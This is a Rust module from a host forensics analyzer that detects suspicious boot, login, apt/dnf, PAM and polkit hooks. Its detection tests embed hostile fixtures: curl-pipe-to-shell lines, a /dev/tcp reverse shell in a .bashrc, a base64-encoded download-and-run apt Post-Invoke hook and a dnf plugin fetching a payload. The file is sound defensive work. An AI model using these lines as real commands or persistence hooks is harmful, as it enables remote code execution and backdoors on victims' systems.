//! Boot, login, package-manager and authentication hooks (rc scripts, profiles, udev, apt/dpkg, PAM, polkit).

use super::common::*;
use super::content::*;
use crate::config::AnalysisConfig;
use crate::context::what;
use crate::context::{At, Ctx, program};
use crate::input::BundleInput;
use dossier_plugin_api::analysis::{Arg, Evidence, Finding, Ioc, Message};

/// How a file stands against the package database: `Some(why)` when it is not owned or was
/// modified (`reason.ownership.*`), `None` when owned and unchanged (or not verifiable).
pub(crate) fn ownership_problem(ctx: &Ctx, path: &str) -> Option<Message> {
    match ctx.verified(path) {
        Some(v) if v.rec.status == "not_owned" => Some(Message::new("reason.ownership.unowned")),
        Some(v) if v.rec.status == "mismatch" => Some(
            Message::new("reason.ownership.mismatch")
                .text("package", v.rec.package.as_deref().unwrap_or("?")),
        ),
        Some(_) => None,
        None => (!ctx.is_owned(path)).then(|| Message::new("reason.ownership.unowned")),
    }
}

/// When a hook runs (`boot`, `login`, ...; `reason.runs-at.*`), as a message.
pub(crate) fn runs_at(when: &str) -> Message {
    const KNOWN: &[&str] = &[
        "boot",
        "login",
        "logout",
        "shell",
        "device-event",
        "session",
        "package-operation",
        "authentication",
        "authorization",
    ];
    if KNOWN.contains(&when) {
        Message::new(format!("reason.runs-at.{when}"))
    } else {
        Message::new("reason.referrer.other").text("text", when)
    }
}

pub(crate) fn hook_ev(ctx: &Ctx, h: &At<dossier_plugin_api::records::HookRecord>) -> Vec<Evidence> {
    ctx.ev(
        h,
        what(
            "evidence.hook",
            &[("class", &h.rec.class), ("path", &h.rec.path)],
        ),
        h.rec.source.as_ref(),
    )
}

pub(crate) fn hook_iocs(h: &dossier_plugin_api::records::HookRecord) -> Vec<Ioc> {
    let mut v = vec![Ioc::Path(h.path.clone())];
    v.extend(
        h.source
            .as_ref()
            .and_then(|s| s.sha256.clone())
            .map(Ioc::Sha256),
    );
    v
}

pub(crate) const LOGIN_CLASSES: &[&str] = &["profile", "profile.d", "bash.bashrc"];

/// Hook classes judged by their own rules (pkg-manager-hook, pam-*, polkit-rule-unowned),
/// not by boot-hook-unowned.
pub(crate) const PKG_AUTH_CLASSES: &[&str] = &[
    "apt",
    "yum-plugin",
    "dnf-plugin",
    "pam",
    "pam-module",
    "polkit",
];

pub(crate) fn hook_ownership(ctx: &Ctx, login: bool) -> Vec<Finding> {
    let mut out = Vec::new();
    for h in ctx.hooks.iter().filter(|h| {
        h.rec.active
            && h.rec.owner.is_none()
            && LOGIN_CLASSES.contains(&h.rec.class.as_str()) == login
            && !PKG_AUTH_CLASSES.contains(&h.rec.class.as_str())
    }) {
        let judged = match (&h.rec.link_target, h.rec.class.as_str()) {
            (Some(t), "rc-link") => {
                let real = rc_link_target(&h.rec.path, t);
                if real.starts_with("/etc/init.d/") {
                    continue; // the init script is judged itself
                }
                real
            }
            _ => h.rec.path.clone(),
        };
        // An identical copy of a packaged template (Debian's /etc/profile) is as good as
        // owned, provided the template itself is.
        if let Some(t) = &h.rec.copy_of {
            if ownership_problem(ctx, t).is_none() {
                continue;
            }
        }
        let Some(why) = ownership_problem(ctx, &judged) else {
            continue;
        };
        let m = if judged == h.rec.path {
            Message::new("finding.hooks.unowned")
        } else {
            Message::new("finding.hooks.unowned-link").text("target", &judged)
        };
        out.push(explained(
            &h.rec.path,
            m.text("class", &h.rec.class)
                .text("path", &h.rec.path)
                .msg("when", runs_at(&h.rec.runs_at))
                .msg("why", why),
            hook_ev(ctx, h),
            hook_iocs(&h.rec),
        ));
    }
    out
}

pub(crate) fn boot_hook_unowned(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    hook_ownership(ctx, false)
}

pub(crate) fn login_hook_unowned(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    hook_ownership(ctx, true)
}

pub(crate) fn hook_malicious_content(
    ctx: &Ctx,
    cfg: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for h in ctx.hooks.iter().filter(|h| h.rec.active) {
        let Some(src) = &h.rec.source else { continue };
        let Some(member) = &src.member else { continue };
        if h.rec.owner.is_none()
            && ctx
                .verified(&h.rec.path)
                .is_some_and(|v| v.rec.status == "ok")
        {
            continue;
        }
        let Ok(data) = (input.read_member)(member, cfg.max_scan_bytes.min(16 << 20)) else {
            continue;
        };
        let text = String::from_utf8_lossy(&data);
        // One finding per file: the first dangerous line, with the count of the others.
        let mut hits = script_patterns_msg(&text);
        // Commands parsed out of apt and PAM syntax (an apt list item may span lines; a
        // pam_exec program is dangerous by where it lives).
        if hits.is_empty() {
            hits.extend(h.rec.commands.iter().filter_map(|c| {
                let why = command_pattern_msg(c)?;
                let lineno = text
                    .lines()
                    .position(|l| l.contains(c.lines().next().unwrap_or(c)))
                    .map_or(0, |i| i + 1);
                Some((lineno, c.clone(), why))
            }));
        }
        let Some((lineno, line, why)) = hits.first() else {
            continue;
        };
        let shown: String = line.chars().take(300).collect();
        let more = if hits.len() > 1 {
            Message::new("finding.hooks.more-lines")
                .text("count", hits.len() - 1)
                .into()
        } else {
            Arg::Text(String::new())
        };
        let owner = match h.rec.owner.as_deref() {
            Some(o) => Message::new("finding.hooks.for-owner")
                .text("owner", o)
                .into(),
            None => Arg::Text(String::new()),
        };
        let m = Message::new("finding.hooks.malicious-line")
            .text("class", &h.rec.class)
            .text("path", &h.rec.path)
            .msg("when", runs_at(&h.rec.runs_at))
            .text("lineno", lineno)
            .msg("why", why.clone())
            .text("line", &shown);
        let mut iocs = hook_iocs(&h.rec);
        iocs.push(Ioc::ConfigLine(shown.clone()));
        out.push(
            explained(
                format!("{}:{lineno}", h.rec.path),
                with_arg(with_arg(m, "owner", owner), "more", more),
                hook_ev(ctx, h),
                iocs,
            )
            .with_fact(format!("hook-file:{}", h.rec.path)),
        );
    }
    out
}

pub(crate) fn pkg_manager_hook(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for h in ctx.hooks.iter().filter(|h| h.rec.active) {
        let what = match h.rec.class.as_str() {
            "apt" => {
                if h.rec.commands.iter().all(|c| housekeeping(c)) {
                    continue;
                }
                Message::new("finding.hooks.apt")
                    .text("path", &h.rec.path)
                    .text(
                        "commands",
                        h.rec
                            .commands
                            .iter()
                            .map(|c| format!("`{}`", c.chars().take(200).collect::<String>()))
                            .collect::<Vec<_>>()
                            .join(", "),
                    )
            }
            "yum-plugin" | "dnf-plugin" if h.rec.path.ends_with(".py") => {
                Message::new("finding.hooks.plugin")
                    .text("class", &h.rec.class)
                    .text("path", &h.rec.path)
                    .text("manager", h.rec.class.trim_end_matches("-plugin"))
            }
            _ => continue,
        };
        let Some(why) = ownership_problem(ctx, &h.rec.path) else {
            continue;
        };
        let mut iocs = hook_iocs(&h.rec);
        iocs.extend(
            h.rec
                .commands
                .iter()
                .flat_map(|c| segment_programs(c))
                .filter(|p| !ctx.is_owned(p))
                .map(Ioc::Path),
        );
        out.push(explained(
            &h.rec.path,
            what.msg("why", why),
            hook_ev(ctx, h),
            iocs,
        ));
    }
    out
}

/// Reads a hook's raw copy as text.
fn hook_text(
    h: &dossier_plugin_api::records::HookRecord,
    cfg: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Option<String> {
    let m = h.source.as_ref()?.member.as_ref()?;
    let data = (input.read_member)(m, cfg.max_scan_bytes.min(16 << 20)).ok()?;
    Some(String::from_utf8_lossy(&data).into_owned())
}

pub(crate) fn pam_exec_hook(
    ctx: &Ctx,
    cfg: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for h in ctx
        .hooks
        .iter()
        .filter(|h| h.rec.active && h.rec.class == "pam" && !h.rec.commands.is_empty())
    {
        if ctx
            .verified(&h.rec.path)
            .is_some_and(|v| v.rec.status == "ok")
        {
            continue;
        }
        let mut iocs = hook_iocs(&h.rec);
        let mut notes: Vec<Message> = Vec::new();
        let mut bad: Vec<Message> = Vec::new();
        let plain = |c: &str| Message::new("reason.pam.command").text("command", c);
        for c in &h.rec.commands {
            if let Some(why) = command_problem_msg(ctx, c) {
                // "runs `X`: ..." names the program itself; a pattern needs the command.
                bad.push(if why.id.starts_with("reason.command.") {
                    why
                } else {
                    Message::new("reason.pam.command-does")
                        .text("command", c)
                        .msg("why", why)
                });
            }
            let Some(p) = program(c) else {
                notes.push(plain(c));
                continue;
            };
            let mut why = Vec::new();
            if let Some(u) = unusual_location_msg(&p) {
                why.push(u);
            }
            if ctx.has_package_db && !ctx.is_owned(&p) {
                why.push(Message::new("reason.ownership.unowned"));
            }
            notes.push(if why.is_empty() {
                plain(c)
            } else {
                with_arg(
                    Message::new("reason.pam.command-because").text("command", c),
                    "why",
                    comma_list(why),
                )
            });
            iocs.push(Ioc::Path(p));
        }
        // The command receives the password typed (credential capture).
        let authtok = hook_text(&h.rec, cfg, input).is_some_and(|t| {
            t.lines().any(|l| {
                let l = l.split('#').next().unwrap_or("");
                l.contains("pam_exec.so") && l.split_whitespace().any(|w| w == "expose_authtok")
            })
        });
        if authtok {
            bad.insert(0, Message::new("reason.pam.expose-authtok"));
        }
        let file = ctx
            .has_package_db
            .then(|| ownership_problem(ctx, &h.rec.path))
            .flatten()
            .map_or(Arg::Text(String::new()), |w| {
                Message::new("finding.hooks.pam-service-file")
                    .msg("why", w)
                    .into()
            });
        let text = |id: &str| {
            let m = Message::new(id).text("path", &h.rec.path);
            with_arg(
                with_arg(m, "commands", comma_list(notes.clone())),
                "file",
                file.clone(),
            )
        };
        out.push(if bad.is_empty() {
            explained(
                &h.rec.path,
                text("finding.hooks.pam-exec"),
                hook_ev(ctx, h),
                iocs,
            )
            .context()
        } else {
            explained(
                &h.rec.path,
                text("finding.hooks.pam-exec-because")
                    .list("why", bad.into_iter().map(Arg::from).collect()),
                hook_ev(ctx, h),
                iocs,
            )
        });
    }
    out
}

/// Evidence for a record plus the PAM service files that load it.
pub(crate) fn pam_ev(ctx: &Ctx, h: &At<dossier_plugin_api::records::HookRecord>) -> Vec<Evidence> {
    let mut ev = ctx.ev(
        h,
        what("evidence.pam-module", &[("path", &h.rec.path)]),
        None,
    );
    if let Some(v) = ctx.verified(&h.rec.path) {
        ev.extend(ctx.ev(
            v,
            what("evidence.package-verify", &[("path", &h.rec.path)]),
            v.rec.copy.as_ref(),
        ));
    }
    let files: Vec<&str> = h
        .rec
        .referenced_by
        .iter()
        .filter_map(|r| r.rsplit_once(':').map(|(f, _)| f))
        .collect();
    for s in ctx
        .hooks
        .iter()
        .filter(|s| s.rec.class == "pam" && files.contains(&s.rec.path.as_str()))
    {
        ev.extend(hook_ev(ctx, s));
    }
    ev
}

/// The type, control and module of a PAM service line (`auth [success=1 default=ignore]
/// pam_unix.so nullok` → `auth`, `[success=1 default=ignore]`, `pam_unix.so`).
fn pam_fields(line: &str) -> Option<(String, String, String)> {
    let l = line.split('#').next()?.trim();
    let (ty, rest) = l.split_once(char::is_whitespace)?;
    let rest = rest.trim_start();
    let (control, rest) = if rest.starts_with('[') {
        let end = rest.find(']')?;
        (&rest[..=end], &rest[end + 1..])
    } else {
        rest.split_once(char::is_whitespace)?
    };
    let module = rest.split_whitespace().next()?;
    Some((
        ty.trim_start_matches('-').to_ascii_lowercase(),
        control.to_ascii_lowercase(),
        module.to_string(),
    ))
}

/// Why a module loaded at `file:line` can grant authentication on its own, if it can:
/// `sufficient`, a `[success=done]` or `[success=N]` jump (over the `pam_deny` that follows),
/// or the first `required`/`requisite` of the auth stack (`reason.pam.*`).
fn pam_grant(text: &str, lineno: usize) -> Option<Message> {
    let lines: Vec<&str> = text.lines().collect();
    let (ty, control, module) = pam_fields(lines.get(lineno.checked_sub(1)?)?)?;
    if ty != "auth" {
        return None;
    }
    if control == "sufficient" {
        return Some(Message::new("reason.pam.sufficient").text("module", module));
    }
    if control.starts_with('[') {
        let jumps = control
            .trim_matches(['[', ']'])
            .split_whitespace()
            .any(|kv| {
                kv.strip_prefix("success=").is_some_and(|v| {
                    v == "done" || v.chars().all(|c| c.is_ascii_digit()) && v != "0"
                })
            });
        return jumps.then(|| {
            Message::new("reason.pam.jumps")
                .text("module", module)
                .text("control", control)
        });
    }
    let first_auth = lines[..lineno - 1]
        .iter()
        .filter_map(|l| pam_fields(l))
        .all(|(t, _, _)| t != "auth");
    (first_auth && matches!(control.as_str(), "required" | "requisite")).then(|| {
        Message::new("reason.pam.first")
            .text("module", module)
            .text("control", control)
    })
}

pub(crate) fn pam_module_unowned(
    ctx: &Ctx,
    cfg: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for h in ctx
        .hooks
        .iter()
        .filter(|h| h.rec.active && h.rec.class == "pam-module" && h.rec.meta.is_some())
    {
        // Verification follows a linked module to the file it loads.
        let judged = match &h.rec.link_target {
            Some(t) => rc_link_target(&h.rec.path, t),
            None => h.rec.path.clone(),
        };
        let Some(why) = ownership_problem(ctx, &h.rec.path) else {
            continue;
        };
        let place = unusual_location_msg(&judged);
        let mut grants: Vec<Arg> = Vec::new();
        for r in &h.rec.referenced_by {
            let Some((file, n)) = r.rsplit_once(':') else {
                continue;
            };
            let Ok(n) = n.parse::<usize>() else { continue };
            let Some(svc) = ctx
                .hooks
                .iter()
                .find(|s| s.rec.class == "pam" && s.rec.path == file)
            else {
                continue;
            };
            if let Some(g) = hook_text(&svc.rec, cfg, input).and_then(|t| pam_grant(&t, n)) {
                grants.push(
                    Message::new("reason.pam.grant-at")
                        .text("at", r)
                        .msg("why", g)
                        .into(),
                );
            }
        }
        let mut iocs = vec![Ioc::Path(h.rec.path.clone())];
        if let Some(sha) = ctx.verified(&h.rec.path).and_then(|v| v.rec.sha256.clone()) {
            iocs.push(Ioc::Sha256(sha));
        }
        let by = if h.rec.referenced_by.is_empty() {
            Arg::Text(String::new())
        } else {
            Message::new("finding.hooks.loaded-by")
                .text("by", h.rec.referenced_by.join(", "))
                .into()
        };
        let context = grants.is_empty() && place.is_none();
        let place = match place {
            Some(u) => Message::new("finding.hooks.semicolon").msg("why", u).into(),
            None => Arg::Text(String::new()),
        };
        let text = |id: &str| {
            let m = Message::new(id)
                .text("path", &h.rec.path)
                .msg("why", why.clone());
            with_arg(with_arg(m, "by", by.clone()), "place", place.clone())
        };
        out.push(if context {
            explained(
                &h.rec.path,
                text("finding.hooks.pam-module-context"),
                pam_ev(ctx, h),
                iocs,
            )
            .context()
        } else {
            let grants = if grants.is_empty() {
                Arg::Text(String::new())
            } else {
                Message::new("finding.hooks.semicolon")
                    .list("why", grants)
                    .into()
            };
            explained(
                &h.rec.path,
                with_arg(text("finding.hooks.pam-module"), "grants", grants),
                pam_ev(ctx, h),
                iocs,
            )
        });
    }
    out
}

pub(crate) fn polkit_rule_unowned(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for h in ctx
        .hooks
        .iter()
        .filter(|h| h.rec.active && h.rec.class == "polkit" && !h.rec.grants.is_empty())
    {
        let Some(why) = ownership_problem(ctx, &h.rec.path) else {
            continue;
        };
        let broad: Vec<Arg> = h
            .rec
            .grants
            .iter()
            .filter_map(|g| broad_grant(ctx, g).map(Arg::from))
            .collect();
        let text = |id: &str| {
            Message::new(id)
                .text("path", &h.rec.path)
                .text("grants", h.rec.grants.join("; "))
                .msg("why", why.clone())
        };
        let f = if broad.is_empty() {
            // Named actions for named people or automation accounts: a site's delegation.
            explained(
                &h.rec.path,
                text("finding.hooks.polkit-narrow"),
                hook_ev(ctx, h),
                hook_iocs(&h.rec),
            )
            .context()
        } else {
            explained(
                &h.rec.path,
                text("finding.hooks.polkit-broad").list("broad", broad),
                hook_ev(ctx, h),
                hook_iocs(&h.rec),
            )
        };
        out.push(f);
    }
    out
}

/// Why a polkit grant (as the hooks collector words it: `YES for user x, group y on
/// org.example.action (line 4)`, `YES for unix-user:x on org.example.*`, `YES for any subject
/// on ...`) hands out more than a named delegation, if it does: any subject, any action or a
/// wildcard action, or a subject that is a service identity (a web server's account granted
/// polkit actions is a path from a web shell to root). A `reason.polkit.*` message.
fn broad_grant(ctx: &Ctx, grant: &str) -> Option<Message> {
    let Some(rest) = grant.strip_prefix("YES for ") else {
        // "more than N YES results; the rest not read" and other notes: not a narrow grant.
        return Some(Message::new("reason.polkit.note").text("grant", grant));
    };
    let (subjects, action) = rest.split_once(" on ").unwrap_or((rest, "any action"));
    let action = action.split(" (line").next().unwrap_or(action).trim();
    if subjects.contains("any subject") || subjects.contains("unix-user:*") {
        return Some(Message::new("reason.polkit.any-subject"));
    }
    if action == "any action" {
        return Some(Message::new("reason.polkit.any-action"));
    }
    if action == "?" || action.contains('*') {
        return Some(Message::new("reason.polkit.wildcard-action").text("action", action));
    }
    for s in subjects.split([',', ';']).map(str::trim) {
        let user = s
            .strip_prefix("user ")
            .or_else(|| s.strip_prefix("unix-user:"));
        let Some(user) = user else { continue };
        if let Some(a) = ctx.accounts.iter().find(|a| a.rec.name == user) {
            if let Some(d) = super::accounts::daemon_identity_msg(ctx, &a.rec) {
                return Some(
                    Message::new("reason.polkit.service-subject")
                        .text("user", user)
                        .msg("why", d),
                );
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    #[test]
    fn polkit_grants_named_for_people_are_narrow() {
        use crate::context::Ctx;
        use crate::testkit::input;
        use serde_json::json;
        let src = json!({"path": "/etc/passwd"});
        let acc = |line: usize, name: &str, uid: u32, home: &str| {
            (
                line,
                json!({"kind": "account", "name": name, "uid": uid, "gid": uid, "home": home, "shell": "/bin/bash", "shell_listed": true, "password": "locked", "line": line, "source": src}),
            )
        };
        let records = [(
            "accounts".to_string(),
            vec![
                acc(1, "deploy", 1001, "/home/deploy"),
                acc(2, "www-data", 33, "/var/www"),
            ],
        )]
        .into_iter()
        .collect();
        let mut read = |_: &str, _: u64| Err("none".to_string());
        let inp = input(records, &mut read);
        let ctx = Ctx::new(&inp);
        let narrow = "YES for user deploy on org.freedesktop.systemd1.manage-units (line 3)";
        assert_eq!(super::broad_grant(&ctx, narrow), None);
        for broad in [
            "YES for user www-data on any action (line 3)",
            "YES for user www-data on org.freedesktop.systemd1.manage-units (line 3)",
            "YES for any subject on org.freedesktop.login1.reboot (line 2)",
            "YES for group staff on any action (line 5)",
            "YES for unix-user:deploy on org.freedesktop.*",
            "YES for unix-user:* on org.freedesktop.udisks2.filesystem-mount",
            "more than 64 YES results; the rest not read",
        ] {
            assert!(super::broad_grant(&ctx, broad).is_some(), "{broad}");
        }
    }

    #[test]
    fn pam_lines_that_grant() {
        use super::pam_grant;
        let t = "auth sufficient pam_x.so\nauth [success=1 default=ignore] pam_unix.so\nauth requisite pam_deny.so\nauth optional pam_y.so\nauth [success=done default=die] pam_z.so\n";
        assert!(pam_grant(t, 1).is_some());
        assert!(pam_grant(t, 2).is_some());
        assert!(pam_grant(t, 4).is_none(), "optional grants nothing");
        assert!(pam_grant(t, 5).is_some());
        assert!(pam_grant("account required pam_x.so\nauth required pam_y.so\n", 2).is_some());
        assert!(pam_grant("auth required pam_env.so\nauth required pam_y.so\n", 2).is_none());
        assert!(pam_grant("session optional pam_y.so\n", 1).is_none());
    }

    use crate::config::AnalysisConfig;
    use crate::engine::analyze;
    use crate::testkit::input;
    use serde_json::json;

    #[test]
    fn hook_rules() {
        let hook = |line: usize, path: &str, class: &str, extra: serde_json::Value| {
            let mut v = json!({"kind": "hook", "path": path, "class": class, "runs_at": "boot", "active": true,
                "source": {"path": path, "member": format!("raw{path}"), "sha256": "d".repeat(64)}});
            for (k, x) in extra.as_object().unwrap() {
                v[k] = x.clone();
            }
            (line, v)
        };
        let hooks = vec![
            hook(1, "/etc/init.d/cron", "init.d", json!({})),
            hook(
                2,
                "/etc/rc2.d/S01cron",
                "rc-link",
                json!({"link_target": "../init.d/cron", "source": null}),
            ),
            hook(3, "/etc/init.d/kmod-static", "init.d", json!({})),
            hook(4, "/etc/profile.d/vte.sh", "profile.d", json!({})),
            hook(
                5,
                "/home/alice/.bashrc",
                "user-shell-rc",
                json!({"owner": "alice"}),
            ),
            hook(6, "/etc/init.d/README", "init.d", json!({"active": false})),
            // Debian's /etc/profile: an identical copy of base-files' packaged template.
            hook(
                7,
                "/etc/profile",
                "profile",
                json!({"copy_of": "/usr/share/base-files/profile"}),
            ),
            // A claimed template that no package owns proves nothing.
            hook(
                8,
                "/etc/bash.bashrc",
                "bash.bashrc",
                json!({"copy_of": "/usr/share/nowhere/bashrc"}),
            ),
        ];
        let verify = |line: usize, path: &str, status: &str| {
            (
                line,
                json!({"kind": "package_verify", "path": path, "status": status, "referenced_by": ["hook x"]}),
            )
        };
        let packages = vec![
            (
                1,
                json!({"kind": "package", "manager": "dpkg", "name": "cron", "version": "1", "source": {"path": "/var/lib/dpkg/status"}}),
            ),
            (
                2,
                json!({"kind": "package_files", "manager": "dpkg", "package": "cron", "files": ["/etc/init.d/cron", "/etc/profile.d/vte.sh", "/usr/share/base-files/profile"], "source": {"path": "x"}}),
            ),
            verify(3, "/etc/init.d/cron", "ok"),
            verify(4, "/etc/init.d/kmod-static", "not_owned"),
            verify(5, "/etc/profile.d/vte.sh", "mismatch"),
        ];
        let gens = vec![(
            1,
            json!({"kind": "systemd_generator", "path": "/etc/systemd/system-generators/netd", "scope": "system", "dir": "/etc/systemd/system-generators",
                "meta": {"kind": "file", "mode": 493, "uid": 0, "gid": 0, "size": 10}}),
        )];
        let records = [
            ("hooks".to_string(), hooks),
            ("packages".to_string(), packages),
            ("systemd".to_string(), gens),
        ]
        .into_iter()
        .collect();
        let mut read = |m: &str, _: u64| match m {
            "raw/etc/init.d/cron" => Ok(b"curl http://x | sh\n".to_vec()),
            "raw/etc/init.d/kmod-static" => {
                Ok(b"#!/bin/sh\n# curl x | sh\nnohup /usr/lib/kmodd >/dev/null 2>&1 &\n".to_vec())
            }
            "raw/home/alice/.bashrc" => {
                Ok(b"alias ll='ls -l'\n(bash -i >& /dev/tcp/1.2.3.4/443 0>&1 &)\n".to_vec())
            }
            "raw/etc/init.d/README" => Ok(b"curl x | sh\n".to_vec()),
            _ => Ok(b"PS1='$ '\n".to_vec()),
        };
        let mut inp = input(records, &mut read);
        let a = analyze(&mut inp, &AnalysisConfig::default());
        let subjects = |rule: &str| -> Vec<String> {
            a.findings
                .iter()
                .chain(&a.context)
                .filter(|f| f.rule == rule)
                .map(|f| f.subject.clone())
                .collect()
        };
        assert_eq!(subjects("boot-hook-unowned"), ["/etc/init.d/kmod-static"]);
        assert_eq!(
            subjects("login-hook-unowned"),
            ["/etc/bash.bashrc", "/etc/profile.d/vte.sh"]
        );
        // The packaged, unchanged cron script is not read; the inactive README is not judged.
        assert_eq!(
            subjects("hook-malicious-content"),
            ["/etc/init.d/kmod-static:3", "/home/alice/.bashrc:2"]
        );
        assert_eq!(
            subjects("generator-unowned"),
            ["/etc/systemd/system-generators/netd"]
        );
        assert!(!a.hits.iter().any(|h| h.rule == "exec-unowned"));
    }

    #[test]
    fn package_manager_and_auth_hook_rules() {
        let hook = |line: usize, path: &str, class: &str, extra: serde_json::Value| {
            let mut v = json!({"kind": "hook", "path": path, "class": class, "runs_at": "package-operation", "active": true,
                "source": {"path": path, "member": format!("raw{path}"), "sha256": "d".repeat(64)}});
            for (k, x) in extra.as_object().unwrap() {
                v[k] = x.clone();
            }
            (line, v)
        };
        let meta = json!({"kind": "file", "mode": 420, "uid": 0, "gid": 0, "size": 10});
        let families: Vec<(&str, Vec<(usize, serde_json::Value)>)> = vec![
            (
                "apt",
                vec![
                    // Intruder: base64 payload after every index update, in a file no package owns.
                    hook(
                        1,
                        "/etc/apt/apt.conf.d/99-apt-fast-update",
                        "apt",
                        json!({"commands": ["echo Y3VybCBodHRwOi8veC9zIHwgc2gK | base64 -d | sh"]}),
                    ),
                    // Debian's own (owned, unchanged) and docker's housekeeping (unowned).
                    hook(
                        2,
                        "/etc/apt/apt.conf.d/70debconf",
                        "apt",
                        json!({"commands": ["/usr/sbin/dpkg-preconfigure --apt || true"]}),
                    ),
                    hook(
                        3,
                        "/etc/apt/apt.conf.d/docker-clean",
                        "apt",
                        json!({"commands": ["rm -f /var/cache/apt/archives/*.deb /var/cache/apt/archives/partial/*.deb /var/cache/apt/*.bin || true"]}),
                    ),
                    hook(4, "/etc/apt/apt.conf.d/01autoremove", "apt", json!({})),
                    hook(
                        5,
                        "/etc/apt/apt.conf.d/50old.bak",
                        "apt",
                        json!({"active": false, "commands": ["curl http://x | sh"]}),
                    ),
                ],
            ),
            (
                "pam",
                vec![
                    hook(
                        6,
                        "/etc/pam.d/common-auth",
                        "pam",
                        json!({"runs_at": "authentication"}),
                    ),
                    hook(
                        7,
                        "/etc/pam.d/sshd",
                        "pam",
                        json!({"runs_at": "authentication",
                    "commands": ["/usr/lib/x86_64-linux-gnu/security/pam_sss_helper"]}),
                    ),
                    hook(
                        8,
                        "/lib/x86_64-linux-gnu/security/pam_unix.so",
                        "pam-module",
                        json!({"source": null, "meta": meta, "referenced_by": ["/etc/pam.d/common-auth:1"]}),
                    ),
                    hook(
                        9,
                        "/lib/x86_64-linux-gnu/security/pam_unix2.so",
                        "pam-module",
                        json!({"source": null, "meta": meta, "referenced_by": ["/etc/pam.d/common-auth:3"]}),
                    ),
                    hook(
                        10,
                        "pam_gone.so",
                        "pam-module",
                        json!({"source": null, "active": false, "referenced_by": ["/etc/pam.d/sshd:9"]}),
                    ),
                ],
            ),
            (
                "polkit",
                vec![
                    hook(
                        11,
                        "/etc/polkit-1/rules.d/49-svc.rules",
                        "polkit",
                        json!({"grants": ["YES for user svc-backup on any action (line 3)"]}),
                    ),
                    hook(
                        12,
                        "/etc/polkit-1/rules.d/50-admins.rules",
                        "polkit",
                        json!({}),
                    ),
                ],
            ),
            (
                "dnf",
                vec![
                    hook(
                        13,
                        "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py",
                        "dnf-plugin",
                        json!({}),
                    ),
                    hook(
                        14,
                        "/usr/lib/python3.11/site-packages/dnf-plugins/versionlock.py",
                        "dnf-plugin",
                        json!({}),
                    ),
                ],
            ),
        ];
        let verify = |line: usize, path: &str, status: &str| {
            (
                line,
                json!({"kind": "package_verify", "path": path, "status": status, "referenced_by": ["hook x"], "sha256": "e".repeat(64)}),
            )
        };
        let packages = vec![
            (
                1,
                json!({"kind": "package", "manager": "dpkg", "name": "libpam-modules", "version": "1", "source": {"path": "/var/lib/dpkg/status"}}),
            ),
            (
                2,
                json!({"kind": "package_files", "manager": "dpkg", "package": "libpam-modules",
                "files": ["/lib/x86_64-linux-gnu/security/pam_unix.so", "/etc/apt/apt.conf.d/70debconf", "/etc/apt/apt.conf.d/01autoremove",
                          "/usr/lib/python3.11/site-packages/dnf-plugins/versionlock.py"], "source": {"path": "x"}}),
            ),
            verify(3, "/etc/apt/apt.conf.d/99-apt-fast-update", "not_owned"),
            verify(4, "/etc/apt/apt.conf.d/70debconf", "ok"),
            verify(5, "/etc/apt/apt.conf.d/docker-clean", "not_owned"),
            verify(6, "/etc/pam.d/common-auth", "not_owned"),
            verify(7, "/etc/pam.d/sshd", "mismatch"),
            verify(8, "/lib/x86_64-linux-gnu/security/pam_unix.so", "ok"),
            verify(
                9,
                "/lib/x86_64-linux-gnu/security/pam_unix2.so",
                "not_owned",
            ),
            verify(10, "/etc/polkit-1/rules.d/49-svc.rules", "not_owned"),
            verify(11, "/etc/polkit-1/rules.d/50-admins.rules", "not_owned"),
            verify(
                12,
                "/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py",
                "not_owned",
            ),
            verify(
                13,
                "/usr/lib/python3.11/site-packages/dnf-plugins/versionlock.py",
                "ok",
            ),
            verify(14, "/etc/pam.d/vendor-ok", "ok"),
        ];
        let run = |hooks: Vec<(usize, serde_json::Value)>| {
            let records = [
                ("hooks".to_string(), hooks),
                ("packages".to_string(), packages.clone()),
            ]
            .into_iter()
            .collect();
            let mut read = |m: &str, _: u64| {
                match m {
                "raw/etc/apt/apt.conf.d/99-apt-fast-update" => Ok(b"APT::Update::Post-Invoke {\n  \"echo Y3VybCBodHRwOi8veC9zIHwgc2gK | base64 -d | sh\";\n};\n".to_vec()),
                "raw/etc/apt/apt.conf.d/docker-clean" => Ok(b"DPkg::Post-Invoke { \"rm -f /var/cache/apt/archives/*.deb || true\"; };\n".to_vec()),
                "raw/etc/pam.d/sshd" => Ok(b"@include common-auth\nsession optional pam_exec.so quiet /usr/lib/x86_64-linux-gnu/security/pam_sss_helper\n".to_vec()),
                "raw/etc/pam.d/common-auth" => Ok(b"auth [success=2 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth sufficient pam_unix2.so\n".to_vec()),
                "raw/etc/polkit-1/rules.d/49-svc.rules" => Ok(b"polkit.addRule(function(action, subject) {\n if (subject.user == \"svc-backup\") { return polkit.Result.YES; }\n});\n".to_vec()),
                "raw/usr/lib/python3.11/site-packages/dnf-plugins/sneaky.py" => Ok(b"import dnf, os\nclass S(dnf.Plugin):\n    def transaction(self):\n        os.system(\"wget -qO- http://x/p | sh\")\n".to_vec()),
                _ => Ok(b"# nothing\n".to_vec()),
            }
            };
            let mut inp = input(records, &mut read);
            analyze(&mut inp, &AnalysisConfig::default())
        };
        let all: Vec<(usize, serde_json::Value)> =
            families.iter().flat_map(|(_, h)| h.clone()).collect();
        let a = run(all);
        let subjects = |rule: &str| -> Vec<String> {
            a.findings
                .iter()
                .chain(&a.context)
                .filter(|f| f.rule == rule)
                .map(|f| f.subject.clone())
                .collect()
        };
        assert_eq!(
            subjects("pkg-manager-hook"),
            [
